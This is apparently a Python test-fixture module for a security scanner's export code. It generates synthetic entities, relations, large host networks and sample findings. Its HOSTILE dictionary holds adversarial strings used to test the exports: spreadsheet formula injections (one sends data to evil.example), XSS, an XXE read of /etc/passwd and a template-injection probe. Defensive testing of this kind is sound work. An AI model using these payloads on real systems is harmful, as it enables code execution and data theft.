"""What a scan may say: every type of entity and of relation, hostile texts, and worlds of any size, as a stream."""

import json
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Final
from uuid import UUID, uuid5

from services.contracts import entities
from services.contracts.attributes import ATTRIBUTES
from services.contracts.claims import Entity
from services.contracts.entities import ENTITY_TYPES, entity
from services.contracts.relations import RELATION_TYPES, relation
from services.contracts.resources.correlation import FindingRow, FindingView, Ground, Named
from services.contracts.resources.storage import (
    EntityFacts,
    Facts,
    RelationFacts,
    SaidAbsence,
    SaidBy,
    SaidValue,
)
from services.reporting.domain.exports.export import About, Export

SCAN: Final = UUID(int=3)
AT: Final = 1_700_000_000_000_000
ABOUT: Final = About(scan=SCAN.hex, at=AT)
_GOLDEN: Final = json.loads((Path(__file__).parents[2] / "golden" / "ids.json").read_text())
#: What texts by strangers are like at their worst, each with what it is after.
HOSTILE: Final = {
    "formula": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "blank": "  =1+1",
    "quote": '"=1+1',
    "apostrophe": "'=1+1",
    "no-break space": "\u00a0=1+1",
    "byte order mark": "\ufeff=1+1",
    "full width": "\uff1d1+1",
    "link": '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "script address": "javascript:alert(1)",
    "markup": "<script>alert(1)</script>&amp;\"'",
    "end of character data": "]]>",
    "entity": "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "control": "a\x01b\x08c\x0bd",
    "null": "a\x00b",
    "delete": "a\x7fb\x85c",
    "not a character": "a\ufffeb\uffffc",
    "lone surrogate": "a\ud800b",
    "turned round": "exe.\u202egnp",
    "isolate": "a\u2066b\u2069",
    "line separator": "a\u2028b\u2029c",
    "escape of a spreadsheet": "_x0041_",
    "emoji": "\U0001f600" * 5,
    "cell that is full": "x" * 32_767,
    "cell that is too full": "y" * 40_000,
    "cell of wide characters": "\U0001f600" * 20_000,
    "JSON": '{"a": "\\u0000"}',
    "CSV": 'a,"b\n,"c',
    "template": "${7*7} {{7*7}}",
}


def said(module: str = "web", at: int = AT, *, evidence: str = "e", confidence: int = 80, **more: int) -> SaidBy:
    record = uuid5(SCAN, evidence).bytes * 2
    return SaidBy(module, 1, at, confidence, uuid5(SCAN, module).bytes, (record,), **more)


def facts(
    about: Entity, *, values: Iterable[tuple[str, str | int | float | bool]] = (), **fields: object
) -> EntityFacts:
    return EntityFacts(
        **{  # type: ignore[arg-type]
            "entity": about,
            "role": "in_scope",
            "distance": 0,
            "first_seen": AT,
            "last_seen": AT + 5_000_000,
            "said": (said(), said("crtsh", AT + 1_000_000, evidence="log", confidence=90)),
            "attributes": tuple(SaidValue(name, value, (said(evidence=name),)) for name, value in values),
            **fields,
        }
    )


def led(type: str, source: Entity, target: Entity, **fields: object) -> RelationFacts:
    found = {"type": type, "source": source, "target": target, "said": (said(evidence=type),), **fields}
    return RelationFacts(**found)  # type: ignore[arg-type]


def every_entity() -> list[Entity]:
    """Several of every type, in all the forms that their keys have."""
    given = [entity(row["type"], *row["given"]) for row in _GOLDEN["entities"]]
    assert {each.type for each in given} == set(ENTITY_TYPES)
    return list(dict.fromkeys(Entity(each.type, each.key) for each in given))


def every_relation() -> list[RelationFacts]:
    """One of every relation between every two types that it may join, with all that tells it from others."""
    first: dict[str, Entity] = {}
    second: dict[str, Entity] = {}
    for each in every_entity():
        second.setdefault(each.type, each) if each.type in first else first.setdefault(each.type, each)
    qualified = {"record": "A", "sni": "www.example.org", "host": "www.example.org", "wildcard": "yes", "role": "abuse",
                 "element": "anchor", "basis": "stated"}  # fmt: skip
    found = []
    for name, known in RELATION_TYPES.items():
        details: dict[str, str | int] = {each: 5 if form is int else "told" for each, form in known.details.items()}
        for source, target in sorted(known.pairs):
            qualifiers = {each: qualified[each] for each in known.qualifiers}
            ends = first[source], second.get(target, first[target])
            made = relation(name, *ends, qualifiers=qualifiers, details=details)
            found.append(led(name, *ends, qualifiers=made.qualifiers, details=made.details))
    return found


def every_value(about: Entity) -> list[tuple[str, str | int | float | bool]]:
    """A value of every attribute that such an entity may have."""
    by_type: dict[type, str | int | float | bool] = {str: "told", int: 1_650_000_000_000_000, float: 1.5, bool: True}
    return [(name, by_type[row.value]) for name, row in ATTRIBUTES.items() if about.type in row.about]


def everything() -> list[Facts]:
    """Every type of entity with every attribute, followed by every type of relation, in one piece after the other."""
    known = every_entity()
    leading: dict[bytes, list[RelationFacts]] = {}
    for each in every_relation():
        leading.setdefault(each.source.id, []).append(each)
    pieces = []
    for start in range(0, len(known), 7):
        some = known[start : start + 7]
        told = tuple(
            facts(each, values=every_value(each), absences=(SaidAbsence("exists", (said(),)),)) for each in some
        )
        following = tuple(relation for each in some for relation in leading.get(each.id, ()))
        pieces.append(Facts(entities=told, relations=following))
    return pieces


def hostile() -> list[Facts]:
    """The hostile texts wherever a stranger's text comes: as keys, attributes, details.

    Half a pair of UTF-16 is in no key: there would be no id of it.
    """
    target = entities.domain("example.org")
    keys = {text: text.replace("\ud800", "?") for text in HOSTILE.values()}
    found = [
        facts(Entity("username", (key,)), values=[("display_name", text), ("biography", text)])
        for text, key in keys.items()
    ]
    relations = [
        led(
            "member_of",
            Entity("person", ("web", key)),
            Entity("organization", ("name", key, "")),
            details={"title": text},
        )
        for text, key in keys.items()
    ]
    people = [
        facts(each.source, values=[("job_title", text)]) for each, text in zip(relations, HOSTILE.values(), strict=True)
    ]
    return [Facts(entities=(facts(target), *found)), Facts(entities=tuple(people), relations=tuple(relations))]


def network(hosts: int, *, piece: int = 500) -> Iterator[Facts]:
    """So many host names, each with an address and what it runs: three entities and three relations a host."""
    nginx = entities.technology("nginx", "1.25")
    yield Facts(entities=(facts(nginx),))
    for start in range(0, hosts, piece):
        told: list[EntityFacts] = []
        relations: list[RelationFacts] = []
        for number in range(start, min(start + piece, hosts)):
            host = Entity("hostname", (f"n{number:07}.example.org",))
            address = Entity("ip_address", (f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}",))
            service = Entity("service", (address.key[0], "tcp", "443"))
            told += [facts(host, values=[("tag", f"t{number % 9}")]), facts(address), facts(service)]
            relations += [
                led("resolves_to", host, address, qualifiers={"record": "A"}, details={"ttl": 300}),
                led("exposes", address, service),
                led("runs", service, nginx),
            ]
        yield Facts(entities=tuple(told), relations=tuple(relations))


def finding(
    about: Entity, *, category: str = "exposure", number: int = 1, text: str = "A database answers"
) -> FindingView:
    named = Named(about.id.hex(), about.type, about.value)
    row = FindingRow(
        id=UUID(int=number), scan=SCAN, rule="exposed_database", rule_version=2, category=category, severity="high",
        confidence=70, title=text, status="new", entities=(named,), first_found=AT, last_found=AT + 1_000_000,
    )  # fmt: skip
    ground = Ground(role="service", entity=named, modules=("web@1",), evidence=("ab" * 32,), at=AT)
    return FindingView(
        finding=row, description=f"{text}.", advice="Close it.", references=("https://example.org/why",), matches=1,
        grounds=(ground,), history=(),
    )  # fmt: skip


def written(export: Export, pieces: Iterable[Facts], findings: Iterable[FindingView] = ()) -> bytes:
    """The whole file."""
    try:
        made = [*export.begin(), *export.find(list(findings))]
        for piece in pieces:
            made += export.add(piece)
        return b"".join([*made, *export.end()])
    finally:
        export.close()
